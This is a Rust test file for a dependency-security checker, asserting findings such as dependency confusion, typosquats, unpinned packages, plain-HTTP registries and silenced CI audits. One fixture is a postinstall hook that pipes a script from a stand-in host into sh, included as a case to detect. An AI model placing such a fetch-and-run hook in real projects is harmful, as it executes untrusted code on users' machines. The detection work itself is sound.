//! The checks on small projects.
#![allow(clippy::unwrap_used, reason = "tests")]

use crate::advisories::Known;
use crate::advisory::Day;
use crate::packages::inventory;

/// Check, path and line of everything that is observed.
fn seen(files: &[(&str, &str)]) -> Vec<(String, String, u32)> {
    let found = super::observe(&inventory(files), files, &Known::default(), Day::parse("2026-11-24").unwrap());
    found
        .into_iter()
        .map(|one| (one.check.trim_start_matches("intel/").to_owned(), one.place.path, one.place.line))
        .collect()
}

fn checks(files: &[(&str, &str)]) -> Vec<String> {
    seen(files).into_iter().map(|(check, _, line)| format!("{check}:{line}")).collect()
}

fn details(files: &[(&str, &str)], check: &str) -> std::collections::BTreeMap<String, String> {
    let found = super::observe(&inventory(files), files, &Known::default(), Day::parse("2026-11-24").unwrap());
    found.into_iter().find(|one| one.check == check).unwrap_or_else(|| panic!("no {check}")).details
}

const LOCK: &str = r#"{
  "name": "shop", "lockfileVersion": 3,
  "packages": {
    "": { "name": "shop", "dependencies": { "express": "^4.19.2", "left": "1.0.0" } },
    "node_modules/express": {
      "version": "4.21.2",
      "resolved": "https://registry.npmjs.org/express/-/express-4.21.2.tgz"
    },
    "node_modules/left": {
      "version": "1.0.0",
      "resolved": "https://registry.npmjs.org/left/-/left-1.0.0.tgz"
    }
  }
}
"#;

#[test]
fn a_project_in_order_has_nothing() {
    let manifest = "{\n  \"name\": \"shop\", \"private\": true,\n  \"engines\": { \"node\": \">=22\" },\n  \"dependencies\": {\n    \"express\": \"^4.19.2\",\n    \"left\": \"1.0.0\"\n  }\n}\n";
    assert_eq!(checks(&[("package.json", manifest), ("package-lock.json", LOCK)]), Vec::<String>::new());
    assert_eq!(checks(&[("requirements.txt", "flask==3.1.0\nrequests>=2.32,<3\n")]), Vec::<String>::new());
    let library =
        "{\n  \"name\": \"left\", \"version\": \"1.0.0\",\n  \"dependencies\": {\n    \"express\": \">=4\"\n  }\n}\n";
    assert_eq!(checks(&[("package.json", library)]), Vec::<String>::new(), "a library leaves the choice to its users");
    let application = "{\n  \"private\": true,\n  \"dependencies\": {\n    \"express\": \"*\"\n  }\n}\n";
    assert_eq!(checks(&[("test/fixtures/package.json", application)]), Vec::<String>::new());
}

#[test]
fn lockfiles() {
    let application = "{\n  \"private\": true,\n  \"dependencies\": {\n    \"express\": \"^4.19.2\"\n  }\n}\n";
    assert_eq!(checks(&[("package.json", application)]), ["missing-lockfile:4"]);
    let newer = "{\n  \"name\": \"shop\", \"private\": true,\n  \"dependencies\": {\n    \"express\": \"^5.0.0\",\n    \"left\": \"1.0.0\",\n    \"right\": \"1.0.0\"\n  }\n}\n";
    let files = [("package.json", newer), ("package-lock.json", LOCK)];
    assert_eq!(checks(&files), ["lockfile-outdated:4"]);
    assert_eq!(details(&files, "intel/lockfile-outdated")["packages"], "`express` and `right`");
    let manifest = "{\n  \"name\": \"shop\", \"private\": true,\n  \"dependencies\": {\n    \"express\": \"^4.19.2\",\n    \"left\": \"1.0.0\"\n  }\n}\n";
    let yarn = "# yarn lockfile v1\n\n\nexpress@^4.19.2:\n  version \"4.19.2\"\n  resolved \"https://registry.yarnpkg.com/express/-/express-4.19.2.tgz#x\"\n\nleft@1.0.0:\n  version \"1.0.0\"\n  resolved \"https://registry.yarnpkg.com/left/-/left-1.0.0.tgz#x\"\n";
    let found = seen(&[("package.json", manifest), ("package-lock.json", LOCK), ("yarn.lock", yarn)]);
    assert_eq!(
        found.iter().map(|(check, path, _)| (check.as_str(), path.as_str())).collect::<Vec<_>>(),
        [("lockfiles-disagree", "yarn.lock")]
    );
}

#[test]
fn open_ranges() {
    let files = [("requirements.txt", "flask\nrequests==2.32.3\nredis>=5\nboto3~=1.34\n")];
    assert_eq!(checks(&files), ["unpinned:1"]);
    assert_eq!(details(&files, "intel/unpinned")["packages"], "`flask` and `redis`");
    let application = "{\n  \"private\": true,\n  \"dependencies\": {\n    \"express\": \"latest\"\n  }\n}\n";
    assert_eq!(checks(&[("package.json", application)]), ["missing-lockfile:4", "unpinned:4"]);
}

#[test]
fn sources_and_registries() {
    let manifest = "{\n  \"private\": true,\n  \"dependencies\": {\n    \"left\": \"github:acme/left\",\n    \"right\": \"git+https://github.com/acme/right.git#0123456789abcdef0123456789abcdef01234567\"\n  }\n}\n";
    assert_eq!(checks(&[("package.json", manifest)]), ["unpinned-source:4"]);
    let found = seen(&[
        (".npmrc", "# mine\nregistry=http://npm.acme.example/\n@x:registry=http://localhost:4873/\n"),
        ("requirements.txt", "--index-url http://pypi.acme.example/simple\nflask==3.1.0\n"),
    ]);
    let expected = [("plain-http", ".npmrc", 2), ("plain-http", "requirements.txt", 1)];
    assert_eq!(
        found.iter().map(|(check, path, line)| (check.as_str(), path.as_str(), *line)).collect::<Vec<_>>(),
        expected
    );
}

#[test]
fn scripts() {
    let manifest = "{\n  \"private\": true,\n  \"scripts\": {\n    \"postinstall\": \"curl -s https://x.example/i.sh | sh\",\n    \"prepare\": \"husky\",\n    \"deploy\": \"curl https://x.example\"\n  }\n}\n";
    assert_eq!(checks(&[("package.json", manifest)]), ["install-download:4"]);
    let lock = LOCK.replace("\"version\": \"4.21.2\",", "\"version\": \"4.21.2\", \"hasInstallScript\": true,");
    let manifest = "{\n  \"name\": \"shop\", \"private\": true,\n  \"dependencies\": {\n    \"express\": \"^4.19.2\",\n    \"left\": \"1.0.0\"\n  }\n}\n";
    assert_eq!(checks(&[("package.json", manifest), ("package-lock.json", &lock)]), ["dependency-scripts:5"]);
    assert_eq!(
        checks(&[("package.json", manifest), ("package-lock.json", &lock), (".npmrc", "ignore-scripts=true\n")]),
        Vec::<String>::new()
    );
}

#[test]
fn confusion() {
    let requirements = "--extra-index-url https://pypi.acme.example/simple\nacme-billing==1.4.0\n";
    let files = [("requirements.txt", requirements)];
    assert_eq!(checks(&files), ["dependency-confusion:1"]);
    let hashed = "--extra-index-url https://pypi.acme.example/simple\nacme-billing==1.4.0 --hash=sha256:aa\n";
    assert_eq!(checks(&[("requirements.txt", hashed)]), Vec::<String>::new());
    assert_eq!(
        checks(&[("requirements.txt", "--index-url https://pypi.acme.example/simple\nacme-billing==1.4.0\n")]),
        Vec::<String>::new()
    );
    let manifest = "{\n  \"name\": \"shop\", \"private\": true,\n  \"dependencies\": {\n    \"express\": \"^4.19.2\",\n    \"left\": \"1.0.0\"\n  }\n}\n";
    let lock = LOCK.replace("https://registry.npmjs.org/left/", "https://npm.acme.example/left/");
    let files = [("package.json", manifest), ("package-lock.json", lock.as_str())];
    assert_eq!(checks(&files), ["dependency-confusion:9"]);
    assert_eq!(details(&files, "intel/dependency-confusion")["packages"], "`left`");
    assert_eq!(
        checks(&[files[0], files[1], (".npmrc", "registry=https://npm.acme.example/\n")]),
        Vec::<String>::new(),
        "a mirror"
    );
}

#[test]
fn names_runtimes_and_packages_given_up() {
    let manifest = "{\n  \"name\": \"shop\", \"private\": true,\n  \"engines\": { \"node\": \"16.x\" },\n  \"dependencies\": {\n    \"express\": \"^4.19.2\",\n    \"left\": \"1.0.0\"\n  }\n}\n";
    let lock = LOCK.replace("\"version\": \"1.0.0\",", "\"version\": \"1.0.0\", \"deprecated\": \"use right\",");
    let files = [("package.json", manifest), ("package-lock.json", lock.as_str()), (".nvmrc", "18\n")];
    assert_eq!(checks(&files), ["end-of-life-runtime:1", "end-of-life-runtime:3", "deprecated-package:6"]);
    assert_eq!(checks(&[("requirements.txt", "reqeusts==2.32.3\n")]), ["typosquat:1"]);
}

#[test]
fn hostile_files_do_no_harm() {
    let long = "a".repeat(100_000);
    let slashes = "/".repeat(5_000);
    let rc = format!("{long}={long}\n=\n:\nregistry=\nregistry=http://\n");
    let manifest = format!("{{\"private\":true,\"dependencies\":{{\"{long}\":\"*\",\"\":\"\",\"é\":\"latest\"}}}}");
    let path = format!("{slashes}.npmrc");
    seen(&[
        (".npmrc", &rc),
        (&path, &rc),
        ("pip.conf", &rc),
        (".nvmrc", &long),
        ("runtime.txt", "python-"),
        ("package.json", &manifest),
    ]);
    let deep = format!("{}package.json", "a/".repeat(2_000));
    seen(&[(&deep, &manifest)]);
}

const PACKAGES: [(&str, &str); 2] = [
    ("package.json", "{\"name\": \"shop\", \"private\": true, \"dependencies\": {\"left-one\": \"1.0.0\"}}"),
    (
        "package-lock.json",
        "{\"lockfileVersion\": 3, \"packages\": {\"\": {\"dependencies\": {\"left-one\": \"1.0.0\"}}, \"node_modules/left-one\": {\"version\": \"1.0.0\"}}}",
    ),
];

fn piped(path: &str, text: &str) -> Vec<(String, u32)> {
    let files = [&PACKAGES[..], &[(path, text)]].concat();
    seen(&files).into_iter().map(|(check, _, line)| (check, line)).collect()
}

#[test]
fn audits_that_nobody_hears_of_in_every_kind_of_pipeline() {
    let ignored = |line| vec![("audit-failure-ignored".to_owned(), line)];
    let github = "jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm audit --json \\\n            --omit=dev || true\n";
    assert_eq!(piped(".github/workflows/a.yml", github), ignored(6));
    assert_eq!(
        piped(
            ".github/workflows/a.yml",
            "jobs:\n  a:\n    continue-on-error: true\n    steps:\n      - run: npx audit-ci\n"
        ),
        ignored(5)
    );
    assert_eq!(piped(".gitlab-ci.yml", "a:\n  script: [\"npm audit || exit 0\"]\n"), ignored(2));
    assert_eq!(
        piped(
            ".circleci/config.yml",
            "jobs:\n  a:\n    steps:\n      - run:\n          command: \"yarn npm audit || :\"\n"
        ),
        ignored(5)
    );
    assert_eq!(
        piped("azure-pipelines.yml", "steps:\n- script: osv-scanner -r .\n  continueOnError: true\n"),
        ignored(2)
    );
    assert_eq!(piped("Jenkinsfile", "node {\n  sh 'npm audit || true'\n}\n"), ignored(2));
    for fine in [
        "npm audit",
        "npm audit; npm test || true",
        "npm audit && echo fine",
        "npm audit --audit-level=high",
        "pip-audit || exit 1",
    ] {
        assert_eq!(piped(".gitlab-ci.yml", &format!("a:\n  script:\n    - {fine}\n")), [], "{fine}");
    }
    for none in ["npm audit fix", "npm audit signatures", "echo audit", "npm run audit-log"] {
        assert_eq!(
            piped(".gitlab-ci.yml", &format!("a:\n  script:\n    - {none}\n")),
            [("no-audit".to_owned(), 1)],
            "{none}"
        );
    }
    assert_eq!(piped(".gitlab-ci.yml", "a: ["), [], "a pipeline that cannot be read is told elsewhere");
}

#[test]
fn lists_of_what_audits_pass_over() {
    let expired = |line| vec![("ignored-expired".to_owned(), line)];
    let unexplained = |line| vec![("ignored-unexplained".to_owned(), line)];
    assert_eq!(
        piped(
            "audit-ci.jsonc",
            "{\n  // not called\n  \"allowlist\": [\n    \"GHSA-a|x>y\", // dev only\n    \"GHSA-b\",\n    {\"GHSA-c\": {\"active\": true, \"notes\": \"n\", \"expiry\": \"2025-01-01\"}}\n  ]\n}\n"
        ),
        [unexplained(5), expired(6)].concat()
    );
    assert_eq!(piped(".nsprc", "{\"GHSA-a\": {\"notes\": \"\"},\n\"GHSA-b\": \"never parsed\"}"), unexplained(1));
    assert_eq!(
        piped(".trivyignore", "# old\nCVE-2020-1\n\nCVE-2020-2\nCVE-2020-3 exp:2026-11-24 # today\n"),
        unexplained(4)
    );
    assert_eq!(
        piped(
            ".safety-policy.yml",
            "security:\n  ignore-vulnerabilities:\n    51457:\n      reason: no\n      expires: '2022-10-21'\n"
        ),
        expired(3)
    );
}
